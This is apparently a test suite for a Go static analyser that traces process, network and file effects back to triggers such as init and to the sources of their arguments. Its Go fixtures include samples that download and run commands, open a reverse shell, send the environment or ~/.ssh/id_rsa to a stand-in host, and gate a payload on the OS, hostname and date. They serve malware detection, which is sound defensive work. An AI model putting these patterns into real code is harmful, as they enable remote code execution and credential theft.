import assert from 'node:assert/strict'
import test from 'node:test'
import { utf8 } from '../../base/bytes.ts'
import type { Effect } from '../facts.ts'
import { readFacts } from '../readfacts.ts'
import { standardCatalogue } from './cataloguestandard.ts'

const catalogue = standardCatalogue()

function effectsOf(files: Readonly<Record<string, string>> | string): readonly Effect[] {
  const all = typeof files === 'string' ? { 'a.go': files } : files
  const contents = new Map(Object.entries(all).map(([name, text]) => [name, utf8(text)]))
  return readFacts('example.com/m', contents, catalogue).effects
}

/** Who reaches the effects of a kind: `init:init`, `exported:(*T).Run`, `…&` in the background. */
function reaching(files: Readonly<Record<string, string>> | string, kind: Effect['kind'] = 'process'): string[] {
  const found = effectsOf(files)
    .filter((effect) => effect.kind === kind)
    .flatMap(({ reach }) => reach.map(({ trigger, name, background }) => `${trigger}:${name}${background ? '&' : ''}`))
  return [...new Set(found)].toSorted((a, b) => (a < b ? -1 : 1))
}

/** Sources of the arguments in a role, with what they tell. */
function sources(files: Readonly<Record<string, string>> | string, role: string): string[] {
  const found = effectsOf(files).flatMap((effect) =>
    effect.arguments
      .filter((argument) => argument.role === role)
      .flatMap((argument) => argument.sources.map((one) => [one.kind, ...one.values].join(' '))),
  )
  return [...new Set(found)].toSorted((a, b) => (a < b ? -1 : 1))
}

/** Values of the arguments in a role. */
function values(files: Readonly<Record<string, string>> | string, role: string): string[] {
  const found = effectsOf(files).flatMap((effect) =>
    effect.arguments.filter((one) => one.role === role).flatMap((one) => one.values.map(({ text }) => text)),
  )
  return [...new Set(found)]
}

const go = (body: string, imports: readonly string[] = ['os/exec']): string =>
  `package a\n\nimport (\n${imports.map((path) => `\t"${path}"\n`).join('')})\n\n${body}\n`
const RUN = 'exec.Command("id").Run()'

for (const [name, body, expected] of [
  ['init', `func init() { ${RUN} }`, ['init:init']],
  ['a package variable', `var x = exec.Command("id").Run()`, ['var:x']],
  ['a literal that is called on the spot', `var x = func() int { ${RUN}; return 1 }()`, ['var:x']],
  ['an exported function over another', `func Open() { run() }\nfunc run() { ${RUN} }`, ['exported:Open']],
  [
    'a goroutine of a method',
    `type T struct{}\nfunc (t *T) Start() { go t.run() }\nfunc (t *T) run() { ${RUN} }`,
    ['exported:(*T).Start&'],
  ],
  ['a defer', `func Close() { defer run() }\nfunc run() { ${RUN} }`, ['exported:Close']],
  [
    'a method of something unknown, by its name',
    `import "x.invalid/y"\ntype t struct{}\nfunc (t) run(a, b string) { ${RUN} }\nfunc Do() { y.Get().run("a", "b") }`,
    ['exported:Do'],
  ],
  [
    'a method of something unknown that takes other arguments, which Go would not compile',
    `import "x.invalid/y"\ntype t struct{}\nfunc (t) run(a, b string) { ${RUN} }\nfunc Do() { y.Get().run("a") }`,
    [],
  ],
  [
    'an interface of the module',
    `type r interface{ run() }\ntype t struct{}\nfunc (t) run() { ${RUN} }\nfunc Do(x r) { x.run() }`,
    ['exported:Do'],
  ],
  [
    'a method of an embedded type',
    `type in struct{}\nfunc (in) run() { ${RUN} }\ntype out struct{ in }\nfunc init() { var o out; o.run() }`,
    ['init:init'],
  ],
  [
    'a method of an embedded interface',
    `type r interface{ run() }\ntype t struct{}\nfunc (t) run() { ${RUN} }\ntype out struct{ r }\nfunc init() { o := out{t{}}; o.run() }`,
    ['init:init'],
  ],
  ['a function in a variable', `func init() { f := run; f() }\nfunc run() { ${RUN} }`, ['init:init']],
  [
    'a function in a map',
    `var m = map[string]func(){"a": run}\nfunc init() { m["a"]() }\nfunc run() { ${RUN} }`,
    ['init:init'],
  ],
  [
    'a function in a field',
    `type t struct{ f func() }\nfunc init() { x := t{f: run}; x.f() }\nfunc run() { ${RUN} }`,
    ['init:init'],
  ],
  [
    'a function that is returned',
    `func init() { pick()() }\nfunc pick() func() { return run }\nfunc run() { ${RUN} }`,
    ['init:init'],
  ],
  [
    'a function that is passed on',
    `func init() { call(run) }\nfunc call(f func()) { f() }\nfunc run() { ${RUN} }`,
    ['init:init'],
  ],
  ['a method value', `type t struct{}\nfunc (t) run() { ${RUN} }\nfunc init() { f := t{}.run; f() }`, ['init:init']],
  [
    'a generic function',
    `func call[T any](f func(T), x T) { f(x) }\nfunc init() { call[int](func(int) { ${RUN} }, 1) }`,
    ['init:init'],
  ],
  ['a handler that is kept', `var Handle = func() { ${RUN} }`, ['hook:func in Handle']],
  ['nobody', `func run() { ${RUN} }`, []],
] as const) {
  test(`effects are reached by ${name}`, () => assert.deepEqual(reaching(go(body)), expected))
}

test('effects are reached by callbacks of the standard library, by main and by tests', () => {
  const once = go(`var o sync.Once\nfunc Get() { o.Do(func() { ${RUN} }) }`, ['os/exec', 'sync'])
  assert.deepEqual(reaching(once), ['exported:Get'])
  const timer = go(`func init() { time.AfterFunc(time.Hour, run) }\nfunc run() { ${RUN} }`, ['os/exec', 'time'])
  assert.deepEqual(reaching(timer), ['init:init&'])
  assert.deepEqual(reaching(go(`func main() { ${RUN} }`).replace('package a', 'package main')), ['main:main'])
  assert.deepEqual(reaching({ 'a_test.go': go(`func TestX() { ${RUN} }\nfunc init() { ${RUN} }`) }), [
    'test:TestX',
    'test:init',
  ])
})

test('effects are reached over packages of the module, under aliases, and by dot imports', () => {
  const inner = `package inner\nimport x "os/exec"\nfunc Run() { x.Command("id").Run() }\n`
  for (const use of [
    'import "example.com/m/inner"\nfunc init() { inner.Run() }',
    'import . "example.com/m/inner"\nfunc init() { Run() }',
  ])
    assert.deepEqual(reaching({ 'a.go': `package a\n${use}\n`, 'inner/i.go': inner }), ['exported:Run', 'init:init'])
})

const NET = ['net', 'net/http', 'os', 'os/exec', 'io', 'bufio', 'bytes', 'encoding/json', 'strings', 'fmt']
for (const [name, body, role, expected] of [
  [
    'a response',
    `func F() { r, _ := http.Get("http://a.invalid/x"); b, _ := io.ReadAll(r.Body); exec.Command("sh", "-c", string(b)) }`,
    'argument',
    ['network http://a.invalid/x'],
  ],
  [
    'a line of a connection',
    `func F() { c, _ := net.Dial("tcp", "a.invalid:1"); s := bufio.NewScanner(c); for s.Scan() { exec.Command(s.Text()) } }`,
    'command',
    ['network a.invalid:1'],
  ],
  [
    'bytes that were read into a buffer',
    `func F() { c, _ := net.Dial("tcp", "a.invalid:1"); b := make([]byte, 9); n, _ := c.Read(b); exec.Command(string(b[:n])) }`,
    'command',
    ['network a.invalid:1'],
  ],
  [
    'a decoded structure',
    `type m struct{ Cmd string }\nfunc F() { r, _ := http.Get("http://a.invalid"); var x m; json.NewDecoder(r.Body).Decode(&x); exec.Command(x.Cmd) }`,
    'command',
    ['network http://a.invalid'],
  ],
  [
    'a helper',
    `func F() { exec.Command(get("http://a.invalid/y")) }\nfunc get(u string) string { r, _ := http.Get(u); b, _ := io.ReadAll(r.Body); return string(b) }`,
    'command',
    ['network http://a.invalid/y'],
  ],
  [
    'a field',
    `type t struct{ cmd string }\nfunc (x *t) load() { r, _ := http.Get("http://a.invalid"); b, _ := io.ReadAll(r.Body); x.cmd = string(b) }\nfunc (x *t) Run() { exec.Command(x.cmd) }`,
    'command',
    ['network http://a.invalid'],
  ],
  [
    'a channel',
    `func F() { c := make(chan string); go func() { r, _ := http.Get("http://a.invalid"); b, _ := io.ReadAll(r.Body); c <- string(b) }(); exec.Command(<-c) }`,
    'command',
    ['network http://a.invalid'],
  ],
  [
    'a package variable',
    `var last string\nfunc load() { r, _ := http.Get("http://a.invalid"); b, _ := io.ReadAll(r.Body); last = string(b) }\nfunc Run() { load(); exec.Command(last) }`,
    'command',
    ['network http://a.invalid'],
  ],
  [
    'a parameter of another function that fills it',
    `func F() { var b bytes.Buffer; fill(&b); exec.Command(b.String()) }\nfunc fill(w *bytes.Buffer) { r, _ := http.Get("http://a.invalid"); io.Copy(w, r.Body) }`,
    'command',
    ['network http://a.invalid'],
  ],
  [
    'the whole environment as JSON',
    `func init() { b, _ := json.Marshal(os.Environ()); http.Post("http://a.invalid", "", bytes.NewReader(b)) }`,
    'data',
    ['environ'],
  ],
  [
    'variables by name',
    `func init() { for _, n := range []string{"A_KEY", "B_KEY"} { http.Post("http://a.invalid", "", strings.NewReader(os.Getenv(n))) } }`,
    'data',
    ['env A_KEY B_KEY'],
  ],
  [
    'a file below the home folder',
    `func init() { h, _ := os.UserHomeDir(); b, _ := os.ReadFile(h + "/.ssh/id_rsa"); http.Post("http://a.invalid", "", bytes.NewReader(b)) }`,
    'data',
    ['file …/.ssh/id_rsa'],
  ],
  [
    'what a caller passes',
    `func F(s string) { http.Post("http://a.invalid", "", strings.NewReader(s)) }`,
    'data',
    ['argument'],
  ],
  [
    'not the error of a request',
    `func F() { _, err := http.Get("http://a.invalid"); exec.Command("echo", fmt.Sprint(err)) }`,
    'argument',
    [],
  ],
  [
    'not another field',
    `type t struct{ a, b string }\nfunc F() { x := t{}; x.a = os.Getenv("A"); x.b = "k"; exec.Command(x.b) }`,
    'command',
    [],
  ],
  ['not a comparison', `func F() { exec.Command(fmt.Sprint(os.Getenv("A") == "b")) }`, 'command', []],
  ['not the length', `func F() { exec.Command(fmt.Sprint(len(os.Getenv("A")))) }`, 'command', []],
] as const) {
  test(`origins: ${name}`, () => assert.deepEqual(sources(go(body, NET), role), expected))
}

test('effects are not reached by like names where a function variable of another package says the type', () => {
  const config =
    'package c\n\ntype C struct{}\nfunc (C) Get(k string) string { return k }\nvar Read = func() (*C, error) { return nil, nil }\n'
  const user = `type t struct{}\nfunc (t) Get(k string) string { ${RUN}; return k }\nfunc init() { x, _ := c.Read(); x.Get("a") }`
  const files = { 'a.go': go(user, ['os/exec', 'example.com/m/c']), 'c/c.go': config }
  assert.deepEqual(reaching(files), ['exported:t.Get'])
})

test('effects take the roles of their objects: standard input, headers, bodies, files, pipes', () => {
  const shell = go(
    `func F() { c, _ := net.Dial("tcp", "a.invalid:1"); s := exec.Command("sh"); s.Stdin, s.Stdout = c, c; s.Run() }`,
    NET,
  )
  assert.deepEqual(sources(shell, 'stdin'), ['network a.invalid:1'])
  assert.deepEqual(sources(shell, 'output'), ['network a.invalid:1'])
  const request = go(
    `func F(k string) { r, _ := http.NewRequest("POST", "http://a.invalid/p", strings.NewReader(k)); r.Header.Set("Authorization", "Bearer x"); http.DefaultClient.Do(r) }`,
    NET,
  )
  assert.deepEqual(values(request, 'url'), ['http://a.invalid/p'])
  assert.deepEqual(values(request, 'header'), ['Authorization', 'Bearer x'])
  assert.deepEqual(sources(request, 'data'), ['argument'])
  const file = go(`func F() { f, _ := os.Create("/nonexistent/x"); fmt.Fprintf(f, "%s", os.Getenv("A")) }`, NET)
  assert.deepEqual(values(file, 'path'), ['/nonexistent/x'])
  assert.deepEqual(sources(file, 'data'), ['env A'])
  const pipe = go(`func F() { s := exec.Command("sh"); w, _ := s.StdinPipe(); io.WriteString(w, "id"); s.Run() }`, NET)
  assert.deepEqual(values(pipe, 'stdin'), ['id'])
  assert.deepEqual(effectsOf(go(`func F(w io.Writer) { io.WriteString(w, "id") }`, NET)), [])
})

test('effects have the roles that a command is given where it is run, not where it is made', () => {
  const body = `func shell() *exec.Cmd { return exec.Command("sh") }\nfunc F() { c, _ := net.Dial("tcp", "a.invalid:1"); s := shell(); s.Stdin = c; s.Start() }`
  assert.deepEqual(sources(go(body, NET), 'stdin'), ['network a.invalid:1'])
})

test('effects are found behind variables and fields that are given functions of the library', () => {
  const variable = `var command = exec.Command\nfunc F() { command("sh", "-c", "id").Run() }`
  assert.deepEqual(values(go(variable), 'argument'), ['-c', 'id'])
  const field = `type t struct{ get func(string) (*http.Response, error) }\nfunc F() { x := t{get: http.Get}; r, _ := x.get("http://a.invalid/z"); b, _ := io.ReadAll(r.Body); exec.Command(string(b)) }`
  assert.deepEqual(sources(go(field, NET), 'command'), ['network http://a.invalid/z'])
})

test('effects take nothing from what tests set, neither data nor functions', () => {
  const code = go(
    `type T struct{ Addr string; Run func() }\nvar last string\nfunc (t *T) Do() { exec.Command(t.Addr, "-v", last).Run(); t.Run() }\nfunc Each(f func()) { f() }`,
  )
  const tests = go(
    `func TestX(*testing.T) { x := &T{Addr: os.Getenv("A"), Run: func() { os.Remove("/nonexistent/x") }}; last = os.Getenv("B"); _ = x; Each(func() { os.Remove("/nonexistent/y") }) }`,
    ['os', 'testing'],
  )
  const files = { 'a.go': code, 'a_test.go': tests }
  assert.deepEqual([...sources(files, 'command'), ...sources(files, 'argument')], ['argument'])
  assert.deepEqual(reaching(files, 'file-remove'), ['test:TestX', 'test:func in TestX'])
})

test('effects of a test or of a program are there in them alone, whatever interface they hide behind', () => {
  const library = go(`type R interface{ Run() }\nfunc Do(x R) { x.Run() }\nfunc init() { Do(nil) }`, [])
  const run = (name: string): string =>
    `package ${name}\n\nimport "os/exec"\n\ntype T struct{}\n\nfunc (T) Run() { ${RUN} }\n`
  assert.deepEqual(reaching({ 'a.go': library, 'a_test.go': run('a') }), [])
  assert.deepEqual(reaching({ 'a.go': library, 'b.go': run('a') }), ['exported:T.Run', 'init:init'])
  const program = `${run('main')}\nfunc main() { a.Do(T{}) }\n`.replace(
    '"os/exec"',
    '(\n\ta "example.com/m"\n\t"os/exec"\n)',
  )
  assert.deepEqual(reaching({ 'a.go': library, 'cmd/x/main.go': program }), ['hook:T.Run', 'main:main'])
})

test('effects are reached by a call of a value where a function takes as many arguments', () => {
  const hops = (args: string): string[] => {
    const body = `func call(fs ...any) { for _, f := range fs { reflect.ValueOf(f).Call(${args}) } }\nfunc init() { call(run) }\nfunc run() { ${RUN} }`
    const effects = effectsOf(go(body, ['os/exec', 'reflect']))
    return effects.flatMap(({ reach }) => reach.flatMap(({ path }) => path.map(({ what }) => what)))
  }
  assert.deepEqual(hops('nil'), ['init calls call', 'call calls run'])
  assert.deepEqual(hops('[]reflect.Value{reflect.ValueOf(1)}'), ['init hands on run'])
})

test('effects that are told together are reached by who passes them, not by all who call the same helper', () => {
  const many = Array.from({ length: 30 }, (_, i) => `func F${i}() { run("tool", "word${i}") }`).join('\n')
  const body = `func run(name string, args ...string) { exec.Command(name, args...).Run() }\nfunc init() { run("/opt/x", "--check") }\n${many}`
  const started = effectsOf(go(body)).filter(({ reach }) => reach.some(({ trigger }) => trigger === 'init'))
  const words = started.flatMap((effect) => effect.arguments.flatMap(({ values: all }) => all.map(({ text }) => text)))
  assert.deepEqual([...new Set(words)], ['/opt/x', '--check'])
})

test('effects know an exported field by a letter of any script', () => {
  const body = `type T struct{ Ärger string }\nfunc Do(t T) { exec.Command(t.Ärger, os.Getenv("A")).Run() }`
  assert.deepEqual(sources(go(body, ['os', 'os/exec']), 'command'), ['argument'])
})

test('effects follow what a context holds, and no context by itself', () => {
  const body = `type k struct{}\nfunc F() { run(context.WithValue(context.Background(), k{}, os.Getenv("A"))) }\nfunc run(c context.Context) { exec.CommandContext(c, c.Value(k{}).(string)) }\nfunc G(c context.Context) { exec.CommandContext(c, "id") }`
  assert.deepEqual(sources(go(body, [...NET, 'context']), 'command'), ['env A'])
})

test('effects are told apart by what callers pass', () => {
  const found = effectsOf(
    go(`func A() { run("id") }\nfunc B() { run("ls") }\nfunc run(c string) { exec.Command(c).Run() }`),
  )
  assert.deepEqual(
    found.map(({ arguments: args, reach }) => [args[0]?.values[0]?.text, reach.map(({ name }) => name)]),
    [
      ['id', ['A']],
      ['ls', ['B']],
    ],
  )
})

test('effects of an address that is a struct have its host and port', () => {
  const body = `func F() { net.DialTCP("tcp", nil, &net.TCPAddr{IP: net.IPv4(198, 51, 100, 7), Port: 4000 + 44}) }`
  assert.deepEqual(values(go(body, ['net']), 'host'), ['198.51.100.7:4044'])
})

test('gates on the way are told: the system, the machine, the clock, a wait, a recover', () => {
  const found = effectsOf(
    go(
      `func init() { if runtime.GOOS == "linux" { go run() } }\nfunc run() {\n\tdefer func() { recover() }()\n\tif h, _ := os.Hostname(); h == "build" { return }\n\tif time.Now().Year() < 2030 { return }\n\ttime.Sleep(time.Hour)\n\t${RUN}\n}`,
      ['os', 'os/exec', 'runtime', 'time'],
    ),
  )
  assert.deepEqual(
    found.map(({ gates }) => gates.map(({ kind }) => kind)),
    [['os', 'recover', 'host-info', 'time', 'sleep']],
  )
})

test('effects are found in bounded time where functions call each other in rings and chains', () => {
  const ring = Array.from(
    { length: 300 },
    (_, i) => `func f${i}(s string) string { return f${(i + 1) % 300}(s) + f${(i + 7) % 300}(s) }`,
  )
  const found = effectsOf(go(`${ring.join('\n')}\nfunc F(s string) { exec.Command(f0(s)).Run() }`))
  assert.equal(found.length <= 1, true)
  const deep = Array.from({ length: 3000 }, (_, i) => `func f${i}(s string) { f${i + 1}(s) }`)
  const end = effectsOf(
    go(`${deep.join('\n')}\nfunc f3000(s string) { exec.Command("id", s).Run() }\nfunc init() { f0("x") }`),
  )
  assert.deepEqual(
    end.flatMap(({ reach }) => reach.map(({ trigger }) => trigger)),
    ['init'],
  )
})
